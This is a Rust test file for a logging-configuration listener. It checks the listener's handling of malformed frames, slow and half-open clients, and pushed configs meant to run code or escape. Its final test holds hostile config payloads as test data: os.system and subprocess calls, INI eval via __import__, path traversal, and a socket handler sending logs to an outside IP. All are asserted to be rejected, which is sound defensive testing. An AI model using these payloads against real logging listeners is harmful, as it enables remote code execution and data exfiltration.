//! Hostile input to the config listener: framing abuse, slow and idle clients, and configs
//! that try to run code, write outside the file root, or fail half-way. Each is answered
//! "rejected" with a reason where a reply is possible, nothing of it is applied, and the
//! previous routing keeps writing.

use crate::common_listen;

use common_listen::*;
use logwire_listener::{ListenerHandle, ListenerOptions};
use logwire_wire::{ConfigReply, ConfigStatus, FixedClock, sign_config_frame};
use std::io::Write;
use std::net::{Shutdown, TcpStream};
use std::time::Duration;

const NOW: i64 = 1_800_000_000_000;

fn unsigned_listener(fx: &Fixture, opts: ListenerOptions) -> ListenerHandle {
    fx.listener(opts.tcp(tcp0()).allow_unsigned(true))
        .start()
        .unwrap()
}

fn expect_rejected(fx: &Fixture, reply: Option<ConfigReply>, want: &str, probe: &str) {
    let reply = reply.unwrap_or_else(|| panic!("{probe}: no reply"));
    assert_eq!(reply.status, ConfigStatus::Rejected, "{probe}: {reply:?}");
    assert!(
        reply.reason.contains(want),
        "{probe}: reason {:?} lacks {want:?}",
        reply.reason
    );
    assert_eq!(
        fx.tree.root().effective_level(),
        10,
        "{probe}: root level unchanged"
    );
    assert!(
        fx.streams.stdout.text().is_empty(),
        "{probe}: no pushed handler ran"
    );
    fx.assert_orig_routing_alive(probe);
}

#[test]
fn framing_abuse() {
    let fx = Fixture::new();
    let h = unsigned_listener(&fx, ListenerOptions::new());
    let addr = h.tcp_addr().unwrap();

    // 0xFFFFFFFF announced: rejected on the prefix, the body is never read.
    expect_rejected(
        &fx,
        push_raw(addr, &[0xff, 0xff, 0xff, 0xff]),
        "larger than this listener's cap of 1048576",
        "huge",
    );
    assert_eq!(h.stats().too_large, 1);
    // Just over the cap, with the body actually sent.
    let mut big = ((1u32 << 20) + 1).to_be_bytes().to_vec();
    big.extend(std::iter::repeat_n(b' ', (1 << 20) + 1));
    expect_rejected(&fx, push_raw(addr, &big), "larger than", "cap+1");
    // Zero length.
    expect_rejected(&fx, push_raw(addr, &[0, 0, 0, 0]), "empty config", "zero");
    // Invalid UTF-8.
    expect_rejected(
        &fx,
        push_raw(addr, &frame(b"{\"version\": 1, \"x\": \"\xff\xfe\"}")),
        "not valid UTF-8",
        "utf8",
    );
    // Truncated: the prefix promises 100 bytes, 10 come, then the sender half-closes.
    let mut s = TcpStream::connect(addr).unwrap();
    s.write_all(&100u32.to_be_bytes()).unwrap();
    s.write_all(b"{\"version\"").unwrap();
    s.shutdown(Shutdown::Write).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    expect_rejected(
        &fx,
        read_reply(&mut s),
        "truncated frame: the connection ended after 10 of 100 bytes",
        "truncated",
    );
    // A partial prefix then close: nothing to answer, counted.
    let mut s = TcpStream::connect(addr).unwrap();
    s.write_all(&[0, 0]).unwrap();
    drop(s);
    wait_until("partial prefix counted", || h.stats().truncated == 2);
    // Two frames on one connection: only the first is read (CPython: one config per connection).
    let mut two = frame(br#"{"version": 1, "incremental": true, "root": {"level": "ERROR"}}"#);
    two.extend(frame(
        br#"{"version": 1, "incremental": true, "root": {"level": "CRITICAL"}}"#,
    ));
    assert_eq!(push_raw(addr, &two).unwrap(), ConfigReply::applied(0));
    assert_eq!(fx.tree.root().effective_level(), 40);
    let s = h.stats();
    // The truncated ones are counted as such, not as rejected configs.
    assert_eq!((s.applied, s.rejected, s.truncated), (1, 4, 2), "{s}");
    h.stop_and_join();
}

#[test]
fn slow_clients_meet_the_deadlines() {
    let fx = Fixture::new();
    let opts = ListenerOptions::new()
        .header_timeout(Duration::from_millis(300))
        .body_timeout(Duration::from_millis(600));
    let h = unsigned_listener(&fx, opts);
    let addr = h.tcp_addr().unwrap();

    // Slow header: one byte, then nothing. The header deadline closes the connection.
    let mut s = TcpStream::connect(addr).unwrap();
    s.write_all(&[0]).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    assert_eq!(read_reply(&mut s), None);
    assert_eq!(h.stats().timed_out, 1);

    // Slow body: a valid prefix, then one byte every 100 ms. The body deadline answers.
    let body = br#"{"version": 1, "incremental": true, "root": {"level": "ERROR"}}"#;
    let mut s = TcpStream::connect(addr).unwrap();
    s.write_all(&(body.len() as u32).to_be_bytes()).unwrap();
    let mut w = s.try_clone().unwrap();
    let body2 = body.to_vec();
    let dripper = std::thread::spawn(move || {
        for b in body2 {
            if w.write_all(&[b]).is_err() {
                break;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    });
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    expect_rejected(&fx, read_reply(&mut s), "body deadline passed", "slowloris");
    drop(s);
    dripper.join().unwrap();
    assert_eq!(h.stats().timed_out, 2);
    h.stop_and_join();
}

#[test]
fn a_thousand_half_open_connections_are_capped_then_cleared() {
    let fx = Fixture::new();
    let opts = ListenerOptions::new()
        .max_connections(16)
        .header_timeout(Duration::from_secs(2));
    let h = unsigned_listener(&fx, opts);
    let addr = h.tcp_addr().unwrap();
    let mut conns = Vec::new();
    for _ in 0..1000 {
        let mut s = TcpStream::connect(addr).unwrap();
        let _ = s.write_all(&[0, 0, 1]);
        conns.push(s);
    }
    wait_until("all 1000 accepted or refused", || {
        let s = h.stats();
        s.connections + s.refused_over_cap == 1000
    });
    // Connecting a thousand may outlast a header deadline on a slow machine, which frees
    // slots; either way at most 16 are ever served at once and the rest closed at once.
    let s = h.stats();
    assert!(s.refused_over_cap >= 900, "{s}");
    // Each had sent 3 bytes, so none should be shed to make room; any that the machine
    // accepted before its bytes arrived may be, which clears it too.
    wait_until("the header deadline clears every accepted one", || {
        let s = h.stats();
        s.timed_out + s.shed_idle == s.connections
    });
    drop(conns);
    // Served again.
    let ok = frame(br#"{"version": 1, "incremental": true, "root": {"level": "ERROR"}}"#);
    assert_eq!(push_raw(addr, &ok).unwrap(), ConfigReply::applied(0));
    assert_eq!(fx.tree.root().effective_level(), 40);
    h.stop_and_join();
}

#[test]
fn stop_returns_with_stuck_clients() {
    let fx = Fixture::new();
    let h = unsigned_listener(&fx, ListenerOptions::new());
    let addr = h.tcp_addr().unwrap();
    // An idle client, and one stuck mid-body.
    let idle = TcpStream::connect(addr).unwrap();
    let mut mid = TcpStream::connect(addr).unwrap();
    mid.write_all(&1000u32.to_be_bytes()).unwrap();
    mid.write_all(b"{\"version\"").unwrap();
    wait_until("both accepted", || h.stats().connections == 2);
    // CPython's stopListening()+join() never returns here.
    assert_stop_returns(h, "clients are stuck");
    drop((idle, mid));
}

fn policy_listener(
    fx: &Fixture,
    root: &std::path::Path,
    signer: &logwire_wire::SigningKey,
    state: &std::path::Path,
) -> ListenerHandle {
    let opts = ListenerOptions::new()
        .tcp(tcp0())
        .key(signer.verify_key())
        .state_dir(state)
        .file_root(root);
    fx.listener(opts).clock(FixedClock(NOW)).start().unwrap()
}

#[test]
fn configs_that_try_to_run_code_or_escape_are_rejected_whole() {
    let fx = Fixture::new();
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("logs");
    std::fs::create_dir(&root).unwrap();
    let state = dir.path().join("state");
    let signer = logwire_wire::generate_ed25519().unwrap();
    let h = policy_listener(&fx, &root, &signer, &state);
    let addr = h.tcp_addr().unwrap();
    let stdout_h = r#""out": {"class": "logging.StreamHandler", "stream": "ext://sys.stdout"}"#;
    let cases: Vec<(&str, String, &str)> = vec![
        ("factory", format!(r#"{{"version": 1, "handlers": {{{stdout_h}, "x": {{"()": "os.system", "command": "id"}}}}, "root": {{"handlers": ["out", "x"]}}}}"#), "'()'"),
        ("filter factory", r#"{"version": 1, "filters": {"f": {"()": "subprocess.getoutput", "cmd": "id"}}}"#.to_owned(), "'()'"),
        ("popen", format!(r#"{{"version": 1, "handlers": {{{stdout_h}, "p": {{"class": "subprocess.Popen", "args": ["id"]}}}}, "root": {{"handlers": ["out", "p"]}}}}"#), "subprocess.Popen"),
        ("dot", r#"{"version": 1, "handlers": {"out": {"class": "logging.StreamHandler", ".": {"terminator": "x"}}}}"#.to_owned(), "handlers.out"),
        ("ext", r#"{"version": 1, "handlers": {"out": {"class": "logging.StreamHandler", "stream": "ext://os.system"}}}"#.to_owned(), "ext://os.system"),
        ("ini eval", "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=StreamHandler\nargs=(__import__('os').system('id'),)\n".to_owned(), "[handler_h]"),
        ("ini class eval", "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=__import__('os').system\nargs=('id',)\n".to_owned(), "[handler_h]"),
        ("file outside root", format!(r#"{{"version": 1, "handlers": {{{stdout_h}, "f": {{"class": "logging.FileHandler", "filename": "../escape.log"}}}}, "root": {{"handlers": ["out", "f"]}}}}"#), "handlers.f"),
        ("absolute file", format!(r#"{{"version": 1, "handlers": {{{stdout_h}, "f": {{"class": "logging.FileHandler", "filename": "/tmp/logwire-escape.log"}}}}, "root": {{"handlers": ["out", "f"]}}}}"#), "handlers.f"),
        ("network exfiltration", format!(r#"{{"version": 1, "handlers": {{{stdout_h}, "n": {{"class": "logging.handlers.SocketHandler", "host": "203.0.113.9", "port": 9020}}}}, "root": {{"handlers": ["out", "n"]}}}}"#), "203.0.113.9"),
        // Valid until its last handler is built: the directory does not exist.
        ("fails in last handler", format!(r#"{{"version": 1, "handlers": {{{stdout_h}, "a": {{"class": "logging.FileHandler", "filename": "a.log"}}, "z": {{"class": "logging.FileHandler", "filename": "no/such/dir/z.log"}}}}, "root": {{"level": "ERROR", "handlers": ["out", "a", "z"]}}}}"#), "handlers.z"),
    ];
    for (i, (name, text, want)) in cases.iter().enumerate() {
        let f = sign_config_frame(
            &signer,
            10 + i as u64,
            NOW,
            NOW + 60_000,
            None,
            text.as_bytes(),
        )
        .unwrap();
        let reply = push_raw(addr, &f);
        expect_rejected(&fx, reply.clone(), want, name);
        assert!(
            reply.unwrap().reason.starts_with("invalid config:"),
            "{name}"
        );
        assert!(
            !root.join("a.log").exists(),
            "{name}: a file of a rejected config was left behind"
        );
        assert!(!dir.path().join("escape.log").exists());
    }
    // A rejected config did not burn its seq: the same seq with a good config applies.
    let good = format!(
        r#"{{"version": 1, "disable_existing_loggers": false, "handlers": {{{stdout_h}, "f": {{"class": "logging.FileHandler", "filename": "ok.log"}}}}, "root": {{"level": "INFO", "handlers": ["out", "f"]}}}}"#
    );
    let f = sign_config_frame(&signer, 10, NOW, NOW + 60_000, None, good.as_bytes()).unwrap();
    assert_eq!(push_raw(addr, &f).unwrap(), ConfigReply::applied(10));
    fx.log("app", 20, "routed by the pushed config");
    fx.tree.flush();
    assert!(
        fx.streams
            .stdout
            .text()
            .contains("routed by the pushed config")
    );
    assert!(
        std::fs::read_to_string(root.join("ok.log"))
            .unwrap()
            .contains("routed by the pushed config")
    );
    h.stop_and_join();
}
